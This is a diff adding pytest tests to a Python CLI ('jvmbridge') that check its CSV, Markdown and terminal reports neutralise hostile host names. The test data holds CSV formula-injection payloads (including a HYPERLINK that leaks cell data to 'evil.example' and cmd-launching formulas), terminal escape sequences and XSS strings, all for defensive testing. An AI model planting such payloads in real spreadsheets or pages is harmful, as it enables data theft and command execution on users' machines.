@@ -3,14 +3,20 @@ listing or a fleet document carrying terminal escape sequences is printed as wha
 JSON keeps it exact (and escapes it itself)."""
 from __future__ import annotations
 
+import csv
 import importlib
+import io
 import json
+import os
+import subprocess
+import sys
 
 import pytest
+from markdown_it import MarkdownIt
 
 from conftest import run_cli
 from jvmbridge.render import FORMATS, render
-from jvmbridge.render.text import align, markdown, printable
+from jvmbridge.render.text import align, csv_cell, markdown, printable
 
 # Set the window title, clear the screen, a C1 CSI, a newline that would fake a line, a
 # right-to-left override that would reorder what follows.
@@ -125,3 +131,96 @@ def test_a_document_missing_what_a_check_document_has_is_a_host_not_checked(tmp_
     assert done.returncode == 2 and done.stderr == "", done.stderr
     (why,) = json.loads(done.stdout)["unchecked"].values()
     assert why.startswith(f"{tmp_path / 'host.json'}: not a complete `jvmbridge check` document"), why
+
+
+# What a spreadsheet would run as a formula (OWASP's CSV injection), each as a host could name itself.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.fast
+@pytest.mark.parametrize("value, written", [
+    *((formula, "'" + printable(formula)) for formula in FORMULAS),
+    (EVIL, SHOWN), ("-", "-"), ("-12.5", "-12.5"), ("-1e-3", "-1e-3"), ("17.0.15", "17.0.15"), (3, 3), (None, None),
+    ("web-1", "web-1"), ("a=b", "a=b"),
+])
+def test_a_csv_cell_is_never_a_formula_and_never_a_control_sequence(value, written):
+    assert csv_cell(value) == written
+
+
+def _fleet_of_hosts(folder, hosts: list[str]):
+    """A saved fleet folder: one `check` document per host name, each with one active verdict."""
+    folder.mkdir()
+    for index, host in enumerate(hosts):
+        verdict = {"mode": "CBC", "status": "active", "reason": "", "fix": ""}
+        (folder / f"host-{index}.json").write_text(json.dumps(
+            {"host": host, "jdks": [{"java_home": "/jdk", "version": "17", "options": [], "verdicts": [verdict]}],
+             "live_jvms": []}))
+    return folder
+
+
+@pytest.mark.fast
+def test_a_fleet_csv_holds_hostile_host_names_as_text(tmp_path):
+    hosts = [*FORMULAS, EVIL, "web-1"]
+    done = run_cli("report", str(_fleet_of_hosts(tmp_path / "fleet", hosts)), "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    assert not set(done.stdout) & {"\x1b", "\x07", "\x9b", "\u202e", "\t", "\r"}, done.stdout
+    rows = list(csv.reader(io.StringIO(done.stdout)))
+    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + printable(h) for h in FORMULAS] + [SHOWN, "web-1"])
+
+
+def run_cli_on_a_terminal(*args: str) -> str:
+    """What the CLI writes to stdout when stdout is a terminal (a pseudo-terminal here), newlines as
+    a pipe has them."""
+    leader, follower = os.openpty()
+    try:
+        process = subprocess.Popen([sys.executable, "-m", "jvmbridge", *args], stdout=follower,
+                                   stderr=subprocess.DEVNULL, env={**os.environ, "PYTHONUNBUFFERED": "1"})
+        os.close(follower)
+        follower = -1
+        received = b""
+        while True:
+            try:
+                chunk = os.read(leader, 65536)
+            except OSError:  # EIO: the process closed its end
+                break
+            if not chunk:
+                break
+            received += chunk
+        process.wait(timeout=60)
+    finally:
+        os.close(leader)
+        if follower >= 0:
+            os.close(follower)
+    return received.decode().replace("\r\n", "\n")
+
+
+@pytest.mark.fast
+def test_csv_is_the_same_escaped_text_on_a_terminal_and_through_a_pipe(tmp_path):
+    folder = _fleet_of_hosts(tmp_path / "fleet", [EVIL, "web-1"])
+    piped = run_cli("report", str(folder), "--format", "csv").stdout
+    assert run_cli_on_a_terminal("report", str(folder), "--format", "csv") == piped
+    assert "\x1b" not in piped and r"app\x1b]0;pwned\x07\x1b[2J" in piped
+
+
+@pytest.mark.fast
+def test_markdown_shows_html_from_hosts_as_text(tmp_path):
+    hosts = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "a & b"]
+    done = run_cli("report", str(_fleet_of_hosts(tmp_path / "fleet", hosts)), "--format", "markdown")
+    assert done.returncode == 0, done.stderr
+    page = MarkdownIt("commonmark").enable("table").render(done.stdout)
+    assert "<script" not in page and "<img" not in page, page
+    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in page and "<td>a &amp; b</td>" in page, page
+
+
+def test_run_and_host_names_reach_csv_as_text(tmp_path):
+    once = ["--engine", "pyca", "--round-time", "0.01", "--rounds", "1", "--forks", "1", "--max-forks", "1", "--quiet"]
+    runs = [tmp_path / "one.jsonl", tmp_path / "two.jsonl"]
+    for run, name, host in zip(runs, FORMULAS[:2], [FORMULAS[3], EVIL]):
+        done = run_cli("compare", *once, "--name", name, "--host-name", host, "--output", str(run))
+        assert done.returncode == 0, done.stderr
+    by_run = next(csv.reader(io.StringIO(run_cli("report", *map(str, runs), "--format", "csv").stdout)))
+    by_host = next(csv.reader(io.StringIO(run_cli("report", *map(str, runs), "--columns", "host",
+                                                  "--format", "csv").stdout)))
+    assert by_run[1:3] == [f"'{FORMULAS[0]} ns/op", f"'{FORMULAS[1]} ns/op"], by_run
+    assert by_host[1:3] == [f"'{FORMULAS[3]} ns/op", f"{SHOWN} ns/op"], by_host
